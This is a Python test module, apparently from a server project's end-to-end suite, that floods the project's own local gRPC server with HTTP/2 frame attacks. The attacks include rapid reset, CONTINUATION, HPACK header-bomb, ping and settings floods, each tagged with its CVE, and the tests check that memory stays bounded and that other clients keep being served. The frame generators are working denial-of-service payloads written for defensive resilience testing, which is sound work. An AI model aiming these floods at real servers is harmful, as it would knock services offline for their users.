"""Floods of HTTP/2 frames, each cheap to send and, for some server at some time, dear to take."""

import secrets
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import count, islice
from pathlib import Path
from socket import create_connection, socket

import pytest
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from attacks.keeper import Keeper, keeper_at, unmoved
from attacks.memory import MIB, bounded_growth
from attacks.scale import SCALE
from attacks.wire import PREFACE, Header, call_headers
from e2e.server_process import ServerProcess
from s3_server import S3Server
from survival.replicas import SharedEngines, running_replica

MOST_MEMORY = 128 * MIB
"""That the server may take more for floods than it has without any."""
MOST_FOR_HEADER_BOMBS = 512 * MIB
"""gRPC takes about a MiB for each call of them until it refuses it, for 256 calls on each of two connections."""
BATCH = 250
"""Frames in one write, so that it is the server that is busy."""
STUCK_SECONDS = 2.0
"""Then the server reads no more of a connection, and a flood is over there."""
GET_ME, LOGIN = b"/emo.users.v1.UsersService/GetMe", b"/emo.users.v1.UsersService/Login"

Frames = Callable[[], Iterator[bytes]]


def rapid_resets() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream, headers in _calls(LOGIN):
        yield headers + RstStreamFrame(stream, 8).serialize()


def provoked_resets() -> Iterator[bytes]:
    """Calls that the server has to take back, for a window that grows by nothing (CVE-2025-8671)."""
    for stream, headers in _calls(LOGIN):
        yield headers + WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4)


def endless_headers() -> Iterator[bytes]:
    """Headers of one call that never end (CVE-2024-27316)."""
    yield HeadersFrame(1, Encoder().encode(call_headers(GET_ME))).serialize()
    for number in count():
        yield ContinuationFrame(1, _encoded([(b"x-%d" % number, b"a" * 50)])).serialize()


def empty_continuations() -> Iterator[bytes]:
    """Headers of one call that never end and never grow."""
    yield HeadersFrame(1, Encoder().encode(call_headers(GET_ME))).serialize()
    yield from _forever(ContinuationFrame(1))


def header_bombs() -> Iterator[bytes]:
    """Header blocks that a table of the server's makes thousands of times as long (CVE-2016-6581)."""
    encoder = Encoder()
    first = encoder.encode([*call_headers(GET_ME), (b"x-bomb", b"b" * 3000)])
    yield HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize()
    again = encoder.encode([*call_headers(GET_ME), *[(b"x-bomb", b"b" * 3000)] * 500])
    for stream in count(3, 2):
        yield HeadersFrame(stream, again, flags=["END_HEADERS", "END_STREAM"]).serialize()


def settings() -> Iterator[bytes]:
    """Settings, each of which wants an answer (CVE-2019-9515)."""
    yield from _forever(SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 1, 0x4: 65_535}))


def pings() -> Iterator[bytes]:
    """Pings, each of which wants an answer (CVE-2019-9512)."""
    yield from _forever(PingFrame(0, b"12345678"))


def empty_data() -> Iterator[bytes]:
    """Data of one call without a byte (CVE-2019-9518)."""
    yield HeadersFrame(1, Encoder().encode(call_headers(LOGIN)), flags=["END_HEADERS"]).serialize()
    yield from _forever(DataFrame(1))


def padding() -> Iterator[bytes]:
    """Data of one call that is nothing but what fills it up."""
    yield HeadersFrame(1, Encoder().encode(call_headers(LOGIN)), flags=["END_HEADERS"]).serialize()
    yield from _forever(DataFrame(1, pad_length=200, flags=["PADDED"]))


def priorities() -> Iterator[bytes]:
    """Streams that nobody opens, in ever another order (CVE-2019-9513)."""
    for stream in count(1, 2):
        yield PriorityFrame(stream, depends_on=stream + 2, stream_weight=stream % 256).serialize()


def window_updates() -> Iterator[bytes]:
    """Room for what nobody sends."""
    yield from _forever(WindowUpdateFrame(0, 1))


def resets_of_nothing() -> Iterator[bytes]:
    """The end of calls that never began."""
    for stream in count(1, 2):
        yield RstStreamFrame(stream, 8).serialize()


def unknown_frames() -> Iterator[bytes]:
    """Frames of a type that nobody has defined, to be ignored (RFC 9113 §4.1)."""
    while True:
        yield b"\0\0\x04\xbb\0\0\0\0\0abcd"


def unfinished_calls() -> Iterator[bytes]:
    """Calls whose request never comes, of an RPC that asks for no token, as many as a connection may have."""
    for _, headers in _calls(LOGIN):
        yield headers


FLOODS: list[Frames] = [
    rapid_resets, provoked_resets, endless_headers, empty_continuations, header_bombs, settings, pings, empty_data,
    padding, priorities, window_updates, resets_of_nothing, unknown_frames, unfinished_calls,
]  # fmt: skip


@pytest.mark.parametrize("frames", FLOODS, ids=lambda frames: frames.__name__)
def test_nobody_notices(server: ServerProcess, ann: Keeper, frames: Frames) -> None:
    """While two connections flood the server, one that reads and one that does not, others are served as ever."""
    _attack(server, ann, frames)


def test_nobody_notices_on_shared_engines(mongod_url: str, s3: S3Server, tmp_path: Path) -> None:
    """Nor do they where every call of theirs goes to MongoDB and S3."""
    engines = SharedEngines(mongod_url, f"emo-{secrets.token_hex(4)}", s3.new_bucket(), s3.url)
    with running_replica(tmp_path, engines) as server, keeper_at(server) as ann:
        for frames in FLOODS if SCALE.is_long else (rapid_resets, unfinished_calls):
            _attack(server, ann, frames)


def _attack(server: ServerProcess, ann: Keeper, frames: Frames) -> None:
    def connect() -> socket:
        return create_connection(("127.0.0.1", server.port), STUCK_SECONDS)

    most = MOST_FOR_HEADER_BOMBS if frames is header_bombs else MOST_MEMORY
    with bounded_growth(server, most), unmoved(ann), ThreadPoolExecutor() as attackers:
        for attack in [attackers.submit(flood, connect, frames, reads=reads) for reads in (False, True)]:
            attack.result()


def flood(connect: Callable[[], socket], frames: Frames, *, reads: bool) -> None:
    """Send as many frames as the scale says, over another connection whenever the server hangs up."""
    left, deadline = SCALE.frames, time.monotonic() + SCALE.flood_seconds
    while left > 0 and time.monotonic() < deadline:
        source = frames()
        with suppress(OSError), connect() as connection:
            connection.sendall(PREFACE + SettingsFrame(0).serialize())
            while left > 0 and time.monotonic() < deadline:
                left -= BATCH
                connection.sendall(b"".join(islice(source, BATCH)))
                if reads:
                    _take(connection)


def _take(connection: socket) -> None:
    """Read what is there; raises ConnectionError at the end of it."""
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
        raise ConnectionError
    except BlockingIOError:
        connection.settimeout(STUCK_SECONDS)


def _calls(path: bytes) -> Iterator[tuple[int, bytes]]:
    """Calls of one connection, each with the number of its stream and the frame that begins it."""
    encoder = Encoder()
    for stream in count(1, 2):
        yield stream, HeadersFrame(stream, encoder.encode(call_headers(path)), flags=["END_HEADERS"]).serialize()


def _encoded(headers: list[Header]) -> bytes:
    return Encoder().encode(headers)


def _forever(frame: Frame) -> Iterator[bytes]:
    raw = frame.serialize()
    while True:
        yield raw
